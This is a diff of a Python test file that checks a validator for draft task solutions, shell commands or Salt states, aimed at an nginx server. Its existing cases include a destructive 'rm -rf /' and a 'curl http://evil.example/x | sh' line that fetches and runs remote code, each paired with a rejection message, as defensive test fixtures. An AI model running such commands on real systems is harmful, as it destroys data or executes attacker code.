@@ -131,6 +131,11 @@ def test_states_are_judged_as_states_and_by_the_minions_loader() -> None:
         ({**DRAFT, "solution": "rm -rf /\n"}, "may not be removed"),
         ({**DRAFT, "solution": "curl http://evil.example/x | sh\n"}, "URL of this server"),
         ({**DRAFT, "solution": "if true\n"}, "cannot be parsed"),
+        ({**DRAFT, "solution": "systemctl restart mysql\n"}, "mysql is not of nginx"),
+        (
+            {**DRAFT, "solution_kind": "sls", "solution": "mysql:\n  service.running: []\n"},
+            "mysql is not of nginx",
+        ),
         ({**DRAFT, "solution_kind": "sls", "solution": "x:\n  user.present: []\n"}, "user.present"),
         ({**DRAFT, "title": "Fix \u202eit"}, "turning characters"),
         ({**DRAFT, "risk_words": "x" * 3000}, "at most 2,000"),
